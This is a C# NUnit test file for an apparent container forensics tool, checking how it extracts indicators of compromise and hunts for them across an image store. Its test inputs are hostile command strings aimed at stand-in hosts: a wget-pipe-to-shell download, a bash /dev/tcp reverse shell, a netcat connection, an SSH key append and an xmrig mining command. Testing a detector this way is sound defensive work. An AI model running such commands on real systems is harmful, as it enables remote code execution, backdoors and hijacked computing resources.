using StoreForensics.Findings;
using StoreForensics.Findings.Indicators;
using StoreForensics.Model;
using StoreForensics.Primitives;
using StoreForensics.Tests.Verification;

namespace StoreForensics.Tests.Findings;

/// <summary>What is taken out of texts, what is collected of the committed sample's findings, and where a list is found again.</summary>
[TestFixture]
internal sealed class CollectedIndicatorTests
{
    private static readonly Lazy<IReadOnlyList<CollectedIndicator>> s_collected = new(() => Of(VerifiedStore.Named("sample").Inventory));

    [TestCase("wget -q http://192.0.2.44/setup.sh | sh", "ipv4 192.0.2.44, url http://192.0.2.44/setup.sh")]
    [TestCase("curl https://evil.example:8443/a?b=c)", "domain evil.example, url https://evil.example:8443/a?b=c")]
    [TestCase("curl https://deb.debian.org/a", "")]
    [TestCase("http://user:s3same@evil.example/x", "domain evil.example, url http://evil.example/x")]
    [TestCase("version 1.2.3.4.5 of v1.2.3.4", "")]
    [TestCase("listen 0.0.0.0 and 127.0.0.1", "")]
    [TestCase("bash -i >& /dev/tcp/c2.example/4444 0>&1", "domain c2.example")]
    [TestCase("nc -w 3 c2.example 4444", "domain c2.example")]
    [TestCase("echo 'ssh-ed25519 AAAAC3Nza x@198.51.100.7' >> k", "ipv4 198.51.100.7, ssh-key-comment x@198.51.100.7")]
    [TestCase("mail boss@evil.example", "email boss@evil.example")]
    [TestCase("./xmrig -o stratum+tcp://pool.example:3333", "domain pool.example, pool stratum+tcp://pool.example:3333")]
    [TestCase("{\"pool\":\"198.51.100.77:3333\",\"user\":\"48FAKEWALLETquay\"}", "ipv4 198.51.100.77, pool 198.51.100.77:3333, wallet 48FAKEWALLETquay")]
    [TestCase("user=48FAKEWALLETquay", "")]
    public void Out_of_a_text(string text, string expected) =>
        Assert.That(string.Join(", ", IndicatorExtractor.Of(text).Select(i => $"{i.Type.Word()} {i.Value}").Order(StringComparer.Ordinal)), Is.EqualTo(expected));

    /// <summary>Every automaton is made and runs in linear time.</summary>
    [Test]
    public void A_text_that_is_meant_to_hang_does_not() =>
        Assert.That(IndicatorExtractor.Of(string.Concat(Enumerable.Repeat("http://a@b:c ssh-rsa AAAA pool:", 100_000))).Count(), Is.LessThan(10));

    [Test]
    public void The_samples_findings_give_theirs()
    {
        CollectedIndicator address = s_collected.Value.Single(i => i is { Type: IndicatorType.Ipv4, Value: "192.0.2.44" });
        Assert.Multiple(() =>
        {
            Assert.That(address.Severity, Is.GreaterThanOrEqualTo(FindingSeverity.High));
            Assert.That(address.FirstSeen <= address.LastSeen, Is.True, "times");
            Assert.That(address.Sightings.SelectMany(s => s.Subjects), Is.Not.Empty);
            Assert.That(s_collected.Value.Any(i => i.Type == IndicatorType.Sha256), "digests");
            Assert.That(s_collected.Value.Any(i => i.Type == IndicatorType.Container), "containers");
            Assert.That(s_collected.Value.Select(i => i.Value), Has.None.Contains("hunter2").And.None.Contains("FAKE-PASSWORD"));
        });
    }

    /// <summary>A copy of the image's own shell is no indicator by its bytes: every host with that image has them.</summary>
    [Test]
    public void What_is_stock_is_left_out()
    {
        Inventory inventory = VerifiedStore.Named("sample").Inventory;
        var stock = new HashSet<string>(StringComparer.Ordinal);
        foreach (Layer layer in inventory.Layers.Where(l => l is { Parent: null, Role: LayerRole.Image, Files: not null }))
        {
            for (int node = 0; node < layer.Files!.Tree.Count; node++)
            {
                if (layer.Files.Tree.IsWithin(node, layer.Files.Root) && layer.Files.Tree[node] is { Kind: StoreForensics.Evidence.EntryKind.File, Size: > 0 })
                    stock.Add(Digest(layer, node));
            }
        }
        Assert.That(stock, Is.Not.Empty);
        Assert.That(s_collected.Value.Where(i => i.Type == IndicatorType.Sha256).Select(i => i.Value).Where(stock.Contains), Is.Empty);
    }

    [Test]
    public void A_list_is_found_again_and_each_place_told()
    {
        IndicatorList list = IndicatorList.Empty.With(s_collected.Value.Select((i, n) => (i.Type.Word(), i.Value, "", n + 1)), "case.iocs.csv");
        IReadOnlyList<IndicatorHit> hits = FindingsExaminer.Hunt(VerifiedStore.Named("sample").Inventory, list, hashHoles: false, new ProblemLog());
        string[] missed = [.. s_collected.Value.Where(i => i is not { Type: IndicatorType.Container, Value: "web" }).Select(i => $"{i.Type.Word()} {i.Value}").Except(hits.Select(h => $"{h.Kind} {h.Value}"))];
        Assert.Multiple(() =>
        {
            Assert.That(missed, Is.Empty);
            Assert.That(hits.Where(h => h.Kind == "sha256").Select(h => h.Path?.ToString()), Is.All.Not.Null);
            Assert.That(hits.Select(h => h.List), Is.All.StartsWith("case.iocs.csv line "));
        });
    }

    /// <summary>An address of a private network is another machine's on every host.</summary>
    [Test]
    public void Private_addresses_are_not_hunted() =>
        Assert.That(IndicatorList.Empty.With([("ipv4", "10.0.0.1", "", 1), ("ipv4", "192.0.2.1", "", 2), ("sha256", "no digest", "", 3)], "x").Count, Is.EqualTo(1));

    /// <summary>What every second host calls a container or image is not looked for.</summary>
    [TestCase("container", "web", 0)]
    [TestCase("container", "nginx", 0)]
    [TestCase("container", "sysupdate-1", 1)]
    [TestCase("image", "alpine:3.19", 0)]
    [TestCase("image", "updates.example/sys:1", 1)]
    public void Common_names_are_not_hunted(string kind, string value, int expected) =>
        Assert.That(IndicatorList.Empty.With([(kind, value, "", 1)], "x").Count, Is.EqualTo(expected));

    private static IReadOnlyList<CollectedIndicator> Of(Inventory inventory) =>
        IndicatorCollector.Collect(inventory, FindingsExaminer.Find(inventory, null, new ProblemLog()), new ProblemLog());

    private static string Digest(Layer layer, int node)
    {
        using Stream stream = layer.Files!.Source.Open(node);
        return Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(stream));
    }
}
